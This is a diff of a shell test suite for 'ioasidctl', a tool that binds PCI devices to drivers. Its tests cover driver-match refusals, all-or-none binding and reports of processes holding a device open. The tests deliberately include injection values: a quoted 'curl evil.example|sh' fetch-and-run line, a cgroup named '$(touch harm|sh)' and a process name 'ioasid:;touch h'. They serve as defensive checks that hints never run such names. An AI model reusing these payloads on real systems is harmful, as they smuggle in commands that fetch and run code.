@@ -935,15 +935,110 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(cat /sys/bus/pci/devices/"$NIC"/driver_override) == '(null)' ]]
 	status 6 ctl driver set "$NIC" no-such-driver
 	# nvme's probe fails on a NIC: it has no such registers.
-	status 1 ctl driver set "$NIC" nvme
+	status 1 ctl driver set "$NIC" nvme --force=driver-match
 	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
 	[[ $(cat /sys/bus/pci/devices/"$NIC"/driver_override) == '(null)' ]]
+}
+
+# e1000e's probe takes what the table says of a device, and there is none: it would bring the kernel down.
+@test "driver set refuses a driver that is not made for the device" {
+	status 3 ctl driver set "$WIDE" e1000e
+	says 'e1000e is not made for this device, and could bring the machine down'
+	says "to let the kernel choose its driver: ioasidctl driver reset $WIDE"
+	[[ $(cat /sys/bus/pci/devices/"$WIDE"/driver_override) == vfio-pci ]]
+	status 3 ctl driver set "$NIC" nvme
+	says 'made for it: e1000e'
+	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
+	ctl driver set --list-drivers "$NIC" >"$BATS_TEST_TMPDIR/drivers"
+	equal_words "$(<"$BATS_TEST_TMPDIR/drivers")" 'e1000e uio_pci_generic uio_pci_sva vfio-pci'
+	# Its own driver needs no force.
+	ctl driver set "$NIC" vfio-pci
+	ctl driver set "$NIC" e1000e
+	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
+	ctl driver reset "$NIC"
+	[[ $(cat /sys/bus/pci/devices/"$NIC"/driver_override) == '(null)' ]]
+}
+
+@test "driver set takes several devices, all or none" {
+	local net
+
+	net=$(ls /sys/bus/pci/devices/"$NIC"/net)
+	ip link set "$net" up
+	status 3 ctl driver set "$DISK" "$NIC" vfio-pci
+	says "$net is up"
+	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
+	ip link set "$net" down
+	ctl driver set "$DISK" "$NIC" vfio-pci
+	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */vfio-pci ]]
+	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */vfio-pci ]]
+	status 6 ctl driver reset "$net"
+	says "'ioasidctl driver list' shows what was given another"
+	ctl driver reset "$DISK" "$NIC"
+	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
+	# The second fails, as its probe does, and the first is put back with it.
+	eventually test -b /dev/nvme0n1
+	status 1 ctl driver set "$DISK" "$NIC" nvme --force=driver-match
+	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
+	[[ $(cat /sys/bus/pci/devices/"$DISK"/driver_override) == '(null)' ]]
+	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
+}
+
+@test "driver set sees who has a disk or a UIO node open, and not itself" {
+	eventually test -b /dev/nvme0n1
+	exec 9<>/dev/nvme0n1
+	status 3 ctl driver set "$DISK" vfio-pci
+	says "has /dev/nvme0n1 open"
+	exec 9>&-
+	exec 9</dev/nvme0
+	status 3 ctl driver set "$DISK" vfio-pci
+	says "has /dev/nvme0 open"
+	exec 9>&-
+	ctl driver set "$NARROW" uio_pci_sva
+	exec 9<>"/dev/$(ls "/sys/bus/pci/devices/$NARROW/uio")"
+	status 3 ctl driver set "$NARROW" vfio-pci
+	[[ $errors != *ioasidctl\)* ]]
+	says "process $BASHPID (bash)"
+	says "to free it: kill $BASHPID"
+	exec 9>&-
+	# Only the command itself was started with it.
+	"$IOASIDCTL" driver set "$NARROW" vfio-pci 9<>"/dev/$(ls "/sys/bus/pci/devices/$NARROW/uio")"
+	[[ $(readlink -f /sys/bus/pci/devices/"$NARROW"/driver) == */vfio-pci ]]
+}
+
+# A user's processes with the device open, in a control group and with a name that a shell would run.
+@test "names of others in hints do no harm" {
+	local group='/sys/fs/cgroup/$(touch harm|sh).service' pid node
+
+	node=$(ls "/sys/bus/pci/devices/$WIDE/vfio-dev")
+	cd "$BATS_TEST_TMPDIR"
+	mkdir "$group"
+	sleep 100 <"/dev/vfio/devices/$node" 3>&- &
+	pid=$!
+	echo "$pid" >"$group/cgroup.procs"
+	status 3 ctl driver reset "$WIDE"
+	says "process $pid (sleep) has /dev/vfio/devices/$node open"
+	says "hint: to free it: kill $pid"
+	[[ $errors != *harm* ]]
+	kill "$pid"
+	wait "$pid" || true
+	mkfifo never
+	bash -c "echo 'ioasid:;touch h' >/proc/self/comm; read -r _ <>never" <"/dev/vfio/devices/$node" 3>&- &
+	pid=$!
+	eventually grep -q touch "/proc/$pid/comm"
+	status 3 ctl driver reset "$WIDE"
+	says "process $pid (ioasid:;touch h) has"
+	[[ $errors != *hint:* ]]
+	kill "$pid"
+	wait "$pid" || true
+	eventually rmdir "$group"
+	[[ ! -e harm ]]
 }
 
 @test "a device in use by a context keeps its driver" {
 	context
 	status 3 ctl driver set "$WIDE" uio_pci_sva
 	says "process $(holder_pid test)"
+	says "hint: to free it: ioasidctl -c test device remove $WIDE"
 	[[ $(readlink -f /sys/bus/pci/devices/"$WIDE"/driver) == */vfio-pci ]]
 }
 
